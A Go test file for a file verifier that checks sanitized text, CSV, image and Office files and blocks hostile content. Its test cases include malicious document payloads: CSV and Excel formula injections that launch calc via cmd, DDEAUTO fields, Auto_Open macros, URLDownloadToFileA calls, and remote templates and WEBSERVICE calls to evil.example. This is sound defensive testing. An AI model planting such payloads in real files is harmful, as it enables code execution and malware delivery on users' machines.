package verify

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/dataplane/verdict"
)

func TestGoodFilesPass(t *testing.T) {
	for _, c := range []struct {
		name string
		in   []byte
	}{
		{"お知らせ.txt", []byte("関所\r\n\t髙橋 \U000E0100\uE000\u200D👨\u200D👩\n")},
		{"bom.txt", []byte("\xEF\xBB\xBFabc")},
		{"utf16.txt", []byte("\xFF\xFEa\x00\x3D\xD8\x00\xDE")},
		{"sjis.txt", []byte("\x8a\xd6\x8f\x8a\xf0\x40\xf9\xfc\xb1\xfa\x40\xed\x40\r\n")}, // 関所, gaiji, half-width katakana, IBM and NEC duplicates
		{"表.csv", []byte("名前,金額\r\n\"山田, \"\"太郎\"\"\",-1234\r\n'=1+1,+81\r\n-,---,1.5e-3,\"-1,234\",-12%\r\n")},
		{"sjis.csv", []byte("\x8e\x52\x93\x63,\x81\x7c\x82\x50\x82\x51,\x83\x40\r\n")}, // －１２ and a second byte of 0x40, which is no @
		{"a.png", smallPNG(t)},
		{"a.jpeg", smallJPEG(t)},
		{"a.JPG", smallJPEG(t)},
		{"grey.png", pngOf(2, 2, []byte("\x00ab\x01cd"))},
		{"a.docx", docx(t).zip()},
		{"a.xlsx", xlsx(t).zip()},
		{"a.pptx", pptx(t).zip()},
	} {
		if r := Check(t.Context(), c.name, c.in); r.Outcome != verdict.Clean {
			t.Errorf("%s: %+v", c.name, r.Findings)
		}
	}
}

// TestBrokenRebuilders feeds what a rebuilder with a fault would let through. Each must be blocked for its own reason.
func TestBrokenRebuilders(t *testing.T) {
	png, jpg := smallPNG(t), smallJPEG(t)
	const afterIHDR, afterSOI = 8 + 25, 2
	seg := func(m byte, body string) []byte {
		return append(binary.BigEndian.AppendUint16([]byte{0xFF, m}, uint16(len(body)+2)), body...)
	}
	body := func(x string) []byte {
		return docx(t).replace("word/document.xml", "<w:body>", "<w:body>"+x).zip()
	}
	formula := func(f string) []byte {
		return xlsx(t).replace("xl/worksheets/sheet1.xml", "SUM(B1:B2)", f).zip()
	}
	slide := func(x string) []byte {
		return pptx(t).replace("ppt/slides/slide1.xml", "<p:spTree>", "<p:spTree>"+x).zip()
	}
	wrels := "word/_rels/document.xml.rels"
	part := func(name, typ, rel, content string) []byte {
		return docx(t).set("word/"+name, content).override("word/"+name, typ).relate(wrels, "rId9", rel, name).zip()
	}
	faulty := func(f zipFault) []byte { p := docx(t); return zipOf(p.names, p.body, f) }
	vml := func(x string) []byte {
		return xlsx(t).replace(typesName, "</Types>", `<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/></Types>`).
			set("xl/drawings/vmlDrawing1.vml", `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">`+x+`</xml>`).
			relate("xl/worksheets/_rels/sheet1.xml.rels", "rId1", "vmlDrawing", "../drawings/vmlDrawing1.vml").zip()
	}
	if r := Check(t.Context(), "a.xlsx", vml(`<v:shape><v:textbox><div style="text-align:left"/></v:textbox><x:ClientData ObjectType="Note"/></v:shape>`)); r.Outcome != verdict.Clean {
		t.Errorf("a plain note: %+v", r.Findings)
	}

	for _, c := range []struct {
		what, name, code string
		in               []byte
	}{
		{"nothing", "a.txt", codeEmpty, nil},
		{"a kind that nobody rebuilds", "a.ps", codeName, []byte("%!PS")},
		{"a macro kind's name", "a.docm", codeName, docx(t).zip()},
		{"a path as name", "../a.txt", codeName, []byte("x")},
		{"a name that reads backwards", "a\u202Etxt.exe.txt", codeName, []byte("x")},

		{"escape sequence", "a.txt", "verify.text", []byte("a\x1b[31m")},
		{"NUL", "a.txt", "verify.text", []byte("a\x00b")},
		{"C1 control", "a.txt", "verify.text", []byte("a\u009bb")},
		{"right-to-left override", "a.txt", "verify.text", []byte("a\u202Eb")},
		{"tag characters", "a.txt", "verify.text", []byte("a\U000E0041b")},
		{"byte order mark inside", "a.txt", "verify.text", []byte("a\uFEFFb")},
		{"neither UTF-8 nor CP932", "a.txt", "verify.text", []byte("\xff\xfdabc\x80")},
		{"overlong UTF-8 behind a mark", "a.txt", "verify.text", []byte("\xEF\xBB\xBF\xC0\xAF")},
		{"surrogate in UTF-8 behind a mark", "a.txt", "verify.text", []byte("\xEF\xBB\xBF\xED\xA0\x80")},
		{"half a surrogate in UTF-16", "a.txt", "verify.text", []byte("\xFF\xFE\x3D\xD8a\x00")},
		{"odd UTF-16", "a.txt", "verify.text", []byte("\xFF\xFEa\x00b")},
		{"unassigned row of CP932", "a.txt", "verify.text", []byte("\x82\xa0\x85\x40")},
		{"half a character at the end", "a.txt", "verify.text", []byte("\x82\xa0\x82")},

		{"formula cell", "a.csv", "verify.csv", []byte("a,=1+1\n")},
		{"formula in quotes", "a.csv", "verify.csv", []byte("a,\"=cmd|' /c calc'!A1\"\n")},
		{"formula behind spaces", "a.csv", "verify.csv", []byte("a,   @SUM(A1)\n")},
		{"formula behind a tab", "a.csv", "verify.csv", []byte("a,\"\t=1\"\n")},
		{"full-width formula", "a.csv", "verify.csv", []byte("a,＝1+1\n")},
		{"full-width formula in CP932", "a.csv", "verify.csv", []byte("\x8e\x52,\x81\x811+1\n")},
		{"sum that looks like a number", "a.csv", "verify.csv", []byte("+1+cmd\n")},
		{"formula for a semicolon reader", "a.csv", "verify.csv", []byte("a;=1,b\n")},
		{"formula for a comma reader of a semicolon file", "a.csv", "verify.csv", []byte("\"a\";\"b\n=1;\"\n")},
		{"formula behind a quote that opens late", "a.csv", "verify.csv", []byte("a, \"x,=1\"\n")},
		{"formula behind a quote that never closes", "a.csv", "verify.csv", []byte("\"a,b\n=1\n")},
		{"formula in UTF-16", "a.csv", "verify.csv", []byte("\xFF\xFE=\x001\x00")},

		{"PNG with text", "a.png", codeImage, behind(png, afterIHDR, chunk("tEXt", []byte("Comment\x00secret")))},
		{"PNG with EXIF", "a.png", codeImage, behind(png, afterIHDR, chunk("eXIf", []byte("II*\x00")))},
		{"PNG with a private chunk", "a.png", codeImage, behind(png, afterIHDR, chunk("prVt", []byte("x")))},
		{"PNG with a tail", "a.png", codeImage, append(slices.Clone(png), "PK\x03\x04"...)},
		{"PNG without an end", "a.png", codeImage, png[:len(png)-12]},
		{"PNG with a wrong checksum", "a.png", codeImage, func() []byte { b := slices.Clone(png); b[20] ^= 1; return b }()},
		{"PNG bomb", "a.png", codeImage, pngOf(29_000, 29_000, []byte("\x00"))},
		{"PNG with bytes behind its pixels", "a.png", codeImage, pngOf(2, 2, []byte("\x00ab\x01cdHIDDEN"))},
		{"PNG with too few pixels", "a.png", codeImage, pngOf(2, 3, []byte("\x00ab\x01cd"))},
		{"PNG with an unknown filter", "a.png", codeImage, pngOf(2, 2, []byte("\x00ab\x07cd"))},
		{"PNG with a palette in a grey picture", "a.png", codeImage, pngOf(2, 2, []byte("\x00ab\x01cd"), chunk("PLTE", []byte("abc")))},
		{"JPEG called PNG", "a.png", codeImage, jpg},

		{"JPEG with EXIF", "a.jpg", codeImage, behind(jpg, afterSOI, seg(0xE1, "Exif\x00\x00II*\x00"))},
		{"JPEG with a comment", "a.jpg", codeImage, behind(jpg, afterSOI, seg(0xFE, "secret"))},
		{"JPEG with a color profile", "a.jpg", codeImage, behind(jpg, afterSOI, seg(0xE2, "ICC_PROFILE\x00"))},
		{"JPEG with Photoshop data", "a.jpg", codeImage, behind(jpg, afterSOI, seg(0xED, "Photoshop 3.0\x00"))},
		{"JPEG with a thumbnail in JFIF", "a.jpg", codeImage, behind(jpg, afterSOI, seg(0xE0, "JFIF\x00\x01\x02\x00\x00\x01\x00\x01\x01\x01abc"))},
		{"JPEG with a tail", "a.jpg", codeImage, append(slices.Clone(jpg), "<script>"...)},
		{"JPEG without an end", "a.jpg", codeImage, jpg[:len(jpg)-2]},
		{"JPEG twice", "a.jpg", codeImage, append(slices.Clone(jpg), jpg...)},
		{"arithmetic JPEG", "a.jpg", codeImage, bytes.Replace(jpg, []byte{0xFF, 0xC0}, []byte{0xFF, 0xC9}, 1)},

		{"ZIP with data descriptors", "a.docx", codePackage, faulty(zipFault{descriptor: true})},
		{"ZIP with extra fields", "a.docx", codePackage, faulty(zipFault{extra: true})},
		{"ZIP with a comment", "a.docx", codePackage, faulty(zipFault{comment: true})},
		{"ZIP with a tail", "a.docx", codePackage, faulty(zipFault{tail: "MZ"})},
		{"ZIP with two names for one part", "a.docx", codePackage, faulty(zipFault{wrongLocal: true})},
		{"ZIP with a wrong checksum", "a.docx", codePackage, faulty(zipFault{wrongCRC: true})},
		{"ZIP with hidden bytes", "a.docx", codePackage, faulty(zipFault{gap: true})},
		{"encrypted part", "a.docx", codePackage, faulty(zipFault{encrypted: true})},
		{"part twice", "a.docx", codePackage, faulty(zipFault{twice: true})},
		{"unknown method", "a.docx", codePackage, faulty(zipFault{method: 12})},
		{"part that claims a gigabyte", "a.docx", codeLimit, faulty(zipFault{bomb: 1 << 30})},
		{"part that leaves the package", "a.docx", codePackage, docx(t).set("../evil.xml", "x").zip()},
		{"something before the ZIP", "a.docx", codePackage, append([]byte("MZ"), docx(t).zip()...)},

		{"macro main part", "a.docx", codePart, docx(t).replace(typesName, officeType+"wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml").zip()},
		{"template under a document's name", "a.docx", codePart, docx(t).replace(typesName, officeType+"wordprocessingml.document.main+xml", officeType+"wordprocessingml.template.main+xml").zip()},
		{"spreadsheet under a document's name", "a.docx", codePart, xlsx(t).zip()},
		{"VBA project", "a.docx", codePart, part("vbaProject.bin", "application/vnd.ms-office.vbaProject", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x")},
		{"OLE package", "a.docx", codePart, part("embeddings/a.bin", "application/vnd.openxmlformats-officedocument.oleObject", "oleObject", "x")},
		{"ActiveX", "a.docx", codePart, part("activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "control", "<x/>")},
		{"custom XML", "a.docx", codePart, part("item1.xml", "application/xml", "customXml", "<x/>")},
		{"document properties", "a.docx", codePart, docx(t).set("docProps/core.xml", "<x/>").override("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml").zip()},
		{"part that nothing leads to", "a.docx", codePart, docx(t).set("word/orphan.xml", `<w:styles xmlns:w="`+nsW+`"/>`).override("word/orphan.xml", officeType+"wordprocessingml.styles+xml").zip()},
		{"macro sheet called a worksheet", "a.xlsx", codePart, xlsx(t).replace("xl/worksheets/sheet1.xml", "<worksheet ", "<dialogsheet ").replace("xl/worksheets/sheet1.xml", "</worksheet>", "</dialogsheet>").zip()},
		{"altChunk", "a.docx", codePart, part("chunk.html", "text/html", "aFChunk", "<script>")},
		{"external workbook", "a.xlsx", codePart, xlsx(t).set("xl/externalLinks/externalLink1.xml", "<x/>").override("xl/externalLinks/externalLink1.xml", officeType+"spreadsheetml.externalLink+xml").zip()},
		{"relationship part of nothing", "a.docx", codePart, docx(t).relate("word/_rels/ghost.xml.rels", "rId1", "styles", "../styles.xml").zip()},

		{"remote template", "a.docx", codeLink, docx(t).relate(wrels, "rId9", "attachedTemplate", "http://evil.example/t.dotm", `TargetMode="External"`).zip()},
		{"remote picture", "a.docx", codeLink, docx(t).relate(wrels, "rId9", "image", "http://evil.example/a.png", `TargetMode="External"`).zip()},
		{"styles outside, by a name that is also inside", "a.docx", codeLink, docx(t).replace(wrels, `Target="styles.xml"`, `Target="styles.xml" TargetMode="External"`).zip()},
		{"link to a file", "a.docx", codeLink, docx(t).replace(wrels, "https://www.example.jp/", "file:///c:/windows/a.exe").zip()},
		{"link to a share", "a.docx", codeLink, docx(t).replace(wrels, "https://www.example.jp/", `\\evil.example\share`).zip()},
		{"link to a script", "a.docx", codeLink, docx(t).replace(wrels, "https://www.example.jp/", "javascript:alert(1)").zip()},
		{"relationship that leads nowhere", "a.docx", codeLink, docx(t).replace(wrels, "styles.xml", "gone.xml").zip()},
		{"relationship to the wrong kind", "a.docx", codeLink, docx(t).replace(wrels, "relationships/styles", "relationships/numbering").zip()},
		{"two relationships of one name", "a.docx", codeLink, docx(t).replace(wrels, `Id="rId3"`, `Id="rId1"`).zip()},
		{"reference without a relationship", "a.docx", codeLink, body(`<w:p><w:hyperlink r:id="rId77"/></w:p>`)},
		{"two main parts", "a.docx", codeLink, docx(t).relate("_rels/.rels", "rId2", "officeDocument", "word/document.xml").zip()},

		{"remote template element", "a.docx", codeActive, body(`<w:attachedTemplate r:id="rId2"/>`)},
		{"DDE field", "a.docx", codeActive, body(wordField(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" `))},
		{"DDE field over two runs", "a.docx", codeActive, body(wordField(`DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd`))},
		{"DDE field with text as instruction", "a.docx", codeActive, body(wordField(`</w:instrText></w:r><w:r><w:t>DDEAUTO cmd</w:t></w:r><w:r><w:instrText>`))},
		{"field name computed by a field", "a.docx", codeActive, body(`<w:r><w:fldChar w:fldCharType="begin"/></w:r>` + wordField(` QUOTE 68 68 69 `) + `<w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`)},
		{"simple field that includes a file", "a.docx", codeActive, body(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/a&quot; "/>`)},
		{"field that never ends", "a.docx", codeActive, body(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>`)},
		{"hyperlink field to a file", "a.docx", codeLink, body(wordField(` HYPERLINK "file:///c:/a.exe" `))},
		{"data binding", "a.docx", codeActive, body(`<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x"/></w:sdtPr></w:sdt>`)},
		{"OLE object in VML", "a.xlsx", codeActive, vml(`<o:OLEObject Type="Embed"/>`)},
		{"macro behind a button", "a.xlsx", codeActive, vml(`<v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Run</x:FmlaMacro></x:ClientData></v:shape>`)},
		{"picture loaded by VML", "a.xlsx", codeLink, vml(`<v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape>`)},
		{"script in VML", "a.xlsx", codeMarkup, vml(`<script>x</script>`)},
		{"handler in VML", "a.xlsx", codeActive, vml(`<v:shape><v:textbox><div onclick="x()"/></v:textbox></v:shape>`)},

		{"instruction with an element inside", "a.docx", codeMarkup, body(wordField(` PAGE <w:r/> `))},
		{"DDE field whose instruction an element cuts", "a.docx", codeMarkup, body(wordField(`DD<w:r/>EAUTO cmd`))},
		{"DDE field with the name in an element of the instruction", "a.docx", codeMarkup, body(wordField(`<w:r>DDEAUTO</w:r> cmd`))},
		{"DDE field with text that an element cuts", "a.docx", codeMarkup, body(wordField(`</w:instrText></w:r><w:r><w:t><w:r>DDE</w:r>AUTO cmd</w:t></w:r><w:r><w:instrText>`))},
		{"deleted instruction with an element inside", "a.docx", codeMarkup, body(`<w:r><w:delInstrText> PAGE <w:r/></w:delInstrText></w:r>`)},
		{"DDE field for readers of the fallback", "a.docx", codeActive, body(wordField(`</w:instrText></w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:instrText> PAGE </w:instrText></w:r></mc:Choice>` +
			`<mc:Fallback><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></mc:Fallback></mc:AlternateContent><w:r><w:instrText>`))},
		{"DDE field as text for readers of the fallback", "a.docx", codeActive, body(wordField(`</w:instrText></w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:t> PAGE </w:t></w:r></mc:Choice>` +
			`<mc:Fallback><w:r><w:t>DDEAUTO cmd</w:t></w:r></mc:Fallback></mc:AlternateContent><w:r><w:instrText>`))},
		{"field that ends for some readers only", "a.docx", codeActive, body(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:fldChar w:fldCharType="end"/></w:r></mc:Choice></mc:AlternateContent>`)},
		{"field that ends for some readers only, where another begins", "a.docx", codeActive, body(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>` +
			`<mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r></mc:Choice></mc:AlternateContent><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`)},
		{"field that begins for some readers only", "a.docx", codeActive, body(`<mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:fldChar w:fldCharType="begin"/></w:r></mc:Choice></mc:AlternateContent><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`)},

		{"DDE formula that an element cuts", "a.xlsx", codeMarkup, formula(`cmd|<v/>'/c calc'!A0`)},
		{"formula that calls the web and that an element cuts", "a.xlsx", codeMarkup, formula(`WEBSERVICE(<v/>"http://evil.example/")`)},
		{"formula inside an element of a formula", "a.xlsx", codeMarkup, formula(`<v>cmd|'/c calc'!A0</v>`)},
		{"formula with a harmless formula inside", "a.xlsx", codeMarkup, formula(`cmd|'/c calc'!A0<f>1</f>`)},
		{"name that an element cuts", "a.xlsx", codeMarkup, xlsx(t).replace("xl/workbook.xml", "表!$A$1", `EXEC(<sheets/>"calc")`).zip()},
		{"formula of a drawing that an element cuts", "a.xlsx", codeMarkup, vml(`<v:shape><x:ClientData ObjectType="List"><x:FmlaRange>cmd|<x:Row/>'/c calc'!A0</x:FmlaRange></x:ClientData></v:shape>`)},
		{"element of no standard", "a.docx", codeMarkup, docx(t).replace("word/document.xml", "<w:body>", `<w:body><w:launch/>`).zip()},
		{"element of another standard", "a.docx", codeMarkup, docx(t).replace("word/document.xml", "<w:body>", `<w:body><w:sld/>`).zip()},
		{"formula of a sort that nobody knows", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<n:f xmlns:n="http://schemas.microsoft.com/office/drawing/2012/chart">cmd|'/c calc'!A0</n:f><sheetData>`).zip()},
		{"threshold that calls the web", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<cfvo type="formula" val="WEBSERVICE(&quot;http://evil.example/&quot;)"/><sheetData>`).zip()},
		{"pivot field that calls the web", "a.xlsx", codeActive, xlsx(t).replace("xl/worksheets/sheet1.xml", "<sheetData>", `<cacheField formula="WEBSERVICE(&quot;http://evil.example/&quot;)"/><sheetData>`).zip()},

		{"object, whatever is in it", "a.docx", codeActive, body(`<w:object/>`)},
		{"frame that loads another file", "a.docx", codeActive, body(`<w:frame/>`)},
		{"name of a file that a frame loads", "a.docx", codeActive, body(`<w:sourceFileName r:id=""/>`)},
		{"link to a file of the mail merge", "a.docx", codeActive, body(`<w:headerSource r:id=""/>`)},
		{"DDE formula", "a.xlsx", codeActive, formula(`cmd|'/c calc'!A0`)},
		{"formula into another workbook", "a.xlsx", codeLink, formula(`[1]Sheet1!A1`)},
		{"formula into a file", "a.xlsx", codeLink, formula(`'C:\[b.xlsx]S'!A1`)},
		{"formula that calls the web", "a.xlsx", codeActive, formula(`_xlfn.WEBSERVICE("http://evil.example/")`)},
		{"formula that calls a library", "a.xlsx", codeActive, formula(`CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)`)},
		{"link formula to a share", "a.xlsx", codeLink, formula(`HYPERLINK("\\evil\a","x")`)},
		{"link formula with a computed address", "a.xlsx", codeLink, formula(`HYPERLINK(A2)`)},
		{"macro name", "a.xlsx", codeActive, xlsx(t).replace("xl/workbook.xml", `<definedName name="n"`, `<definedName name="_xlnm.Auto_Open" xlm="1"`).zip()},
		{"formula in a name", "a.xlsx", codeActive, xlsx(t).replace("xl/workbook.xml", "表!$A$1", `EXEC("calc")`).zip()},
		{"external references", "a.xlsx", codeActive, xlsx(t).replace("xl/workbook.xml", "<definedNames>", `<externalReferences/><definedNames>`).zip()},

		{"action that starts a program", "a.pptx", codeActive, pptx(t).replace("ppt/slides/slide1.xml", "ppaction://hlinkshowjump?jump=nextslide", "ppaction://program").zip()},
		{"action that runs a macro", "a.pptx", codeActive, pptx(t).replace("ppt/slides/slide1.xml", "ppaction://hlinkshowjump?jump=nextslide", "ppaction://macro?name=x").zip()},
		{"OLE verb", "a.pptx", codeActive, slide(`<p:cmd type="verb" cmd="0"/>`)},
		{"embedded sound", "a.pptx", codeActive, slide(`<a:wavAudioFile r:embed=""/>`)},
		{"OLE object", "a.pptx", codeActive, slide(`<p:oleObj/>`)},

		{"unknown namespace", "a.docx", codeMarkup, body(`<e:x xmlns:e="http://evil.example/"/>`)},
		{"unknown namespace of an attribute", "a.docx", codeMarkup, body(`<w:p xmlns:e="http://evil.example/" e:x="1"/>`)},
		{"DTD", "a.docx", codeMarkup, docx(t).replace("word/styles.xml", "<w:styles", `<!DOCTYPE x [<!ENTITY e "x">]><w:styles`).zip()},
		{"comment", "a.docx", codeMarkup, body(`<!-- hidden -->`)},
		{"processing instruction", "a.docx", codeMarkup, body(`<?evil x?>`)},
		{"undeclared prefix in mc:Ignorable", "a.docx", codeMarkup, docx(t).replace("word/document.xml", `mc:Ignorable="w14"`, `mc:Ignorable="w14 w15"`).zip()},
		{"tags that do not match", "a.docx", codeMarkup, body(`<w:p></w:r></w:p>`)},
		{"UTF-16 part", "a.docx", codeMarkup, docx(t).set("word/styles.xml", "\xFF\xFE<\x00w\x00").zip()},
		{"EXIF in an embedded picture", "a.docx", codeImage, docx(t).set("word/media/image1.png", string(behind(png, afterIHDR, chunk("eXIf", []byte("II*\x00"))))).zip()},
		{"a program called picture", "a.docx", codeImage, docx(t).set("word/media/image1.png", "MZ\x90").zip()},
	} {
		t.Run(c.what, func(t *testing.T) {
			r := Check(t.Context(), c.name, c.in)
			if r.Outcome != verdict.Blocked || r.After != nil || len(r.Findings) != 1 || r.Findings[0].Code != c.code {
				t.Errorf("%s %+v, want %s", r.Outcome, r.Findings, c.code)
			}
		})
	}
}

func TestTimeIsUp(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	for name, in := range map[string][]byte{"a.png": smallPNG(t), "a.jpg": smallJPEG(t), "a.docx": docx(t).zip(), "a.csv": []byte("a,b\n")} {
		if r := Check(ctx, name, in); r.Outcome != verdict.Blocked || r.Findings[0].Code != codeTime {
			t.Errorf("%s: %s %+v", name, r.Outcome, r.Findings)
		}
	}
}

// TestOtherEyes holds the two sides apart: no package that reads a format is used by both, whether from the standard library or
// from elsewhere. What both may use reads no format, or is the shared vocabulary.
func TestOtherEyes(t *testing.T) {
	neutral := map[string]bool{
		"github.com/sekisho/sekisho/dataplane/verdict": true,
		// names of elements, as the standards define them; what of them may stay each side says by itself
		"github.com/sekisho/sekisho/dataplane/schema": true,
		// of the standard library: values, strings, errors, sums
		"bytes": true, "context": true, "encoding/base64": true, "crypto/sha256": true, "embed": true, "encoding/binary": true, "encoding/hex": true, "encoding/json": true,
		"errors": true, "fmt": true, "hash/crc32": true, "io": true, "maps": true, "path": true, "regexp": true, "slices": true, "strconv": true,
		"strings": true, "sync": true, "unicode": true, "unicode/utf8": true,
		// ciphers and sums read no format
		"crypto/aes": true, "crypto/hmac": true, "crypto/pbkdf2": true, "crypto/sha1": true,
	}
	imports := func(pkg string) []string {
		t.Helper()
		out, err := exec.Command("go", "list", "-json=Imports", pkg+"/...").Output()
		if err != nil {
			t.Fatal(err)
		}
		var all []string
		for dec := json.NewDecoder(bytes.NewReader(out)); ; {
			var p struct{ Imports []string }
			if err := dec.Decode(&p); errors.Is(err, io.EOF) {
				break
			} else if err != nil {
				t.Fatal(err)
			}
			all = append(all, p.Imports...)
		}
		slices.Sort(all)
		return slices.Compact(all)
	}
	rebuilder := imports("github.com/sekisho/sekisho/dataplane/sanitize")
	own := imports("github.com/sekisho/sekisho/dataplane/verify")
	if len(rebuilder) < 10 || len(own) < 10 {
		t.Fatalf("imports were not read: %d and %d", len(rebuilder), len(own))
	}
	for _, p := range own {
		if strings.Contains(p, "sanitize") || strings.HasPrefix(p, "image") || p == "archive/zip" || p == "compress/flate" || p == "compress/zlib" {
			t.Errorf("verify imports %s, the rebuilder's reader", p)
		}
		if slices.Contains(rebuilder, p) && !neutral[p] {
			t.Errorf("both import %s", p)
		}
	}
	for _, p := range rebuilder {
		if p == "encoding/xml" || strings.HasPrefix(p, "github.com/klauspost/") || strings.HasSuffix(p, "dataplane/verify") {
			t.Errorf("sanitize imports %s, the verifier's reader", p)
		}
	}
	// Beneath them too, for what is not the standard library.
	deps := func(pkg string) map[string]bool {
		t.Helper()
		out, err := exec.Command("go", "list", "-deps", "-f", "{{if not .Standard}}{{.ImportPath}}{{end}}", pkg).Output()
		if err != nil {
			t.Fatal(err)
		}
		m := map[string]bool{}
		for _, p := range strings.Fields(string(out)) {
			m[p] = true
		}
		return m
	}
	theirs := deps("github.com/sekisho/sekisho/dataplane/sanitize")
	for p := range deps("github.com/sekisho/sekisho/dataplane/verify") {
		// The reader of 7z archives has an inflater for members that are packed so, which are rare. No result is a 7z archive, and what
		// comes out of one is rebuilt and packed by the rebuilder's own deflate.
		within7z := strings.HasPrefix(p, "github.com/klauspost/compress/")
		if theirs[p] && !neutral[p] && !within7z {
			t.Errorf("both depend on %s", p)
		}
	}
}

func TestSentences(t *testing.T) {
	codes := Sentences.Codes()
	for _, c := range []string{codeName, codeEmpty, codeLimit, codeTime, codeFault, "verify.text", "verify.csv", codeImage, codePackage, codePart, codeLink, codeActive, codeMarkup, "verify.format"} {
		if !slices.Contains(codes, c) {
			t.Errorf("no sentence for %s", c)
		}
	}
	for _, c := range codes {
		if ja, en := Sentences.Sentence(c, "ja"), Sentences.Sentence(c, "en"); ja == c || en == c || ja == en {
			t.Errorf("%s: %q, %q", c, ja, en)
		}
	}
}

func FuzzCheck(f *testing.F) {
	f.Add("a.txt", []byte("abc"))
	f.Add("a.csv", []byte("a,b\n"))
	f.Add("a.png", pngOf(2, 2, []byte("\x00ab\x01cd")))
	f.Add("a.docx", zipOf([]string{typesName}, map[string]string{typesName: "<x/>"}, zipFault{}))
	f.Fuzz(func(t *testing.T, name string, in []byte) {
		r := Check(context.Background(), name, in)
		if r.Outcome == verdict.Blocked && r.Findings[0].Code == codeFault {
			t.Errorf("the verifier failed: %s", fmt.Sprint(r.Findings))
		}
	})
}
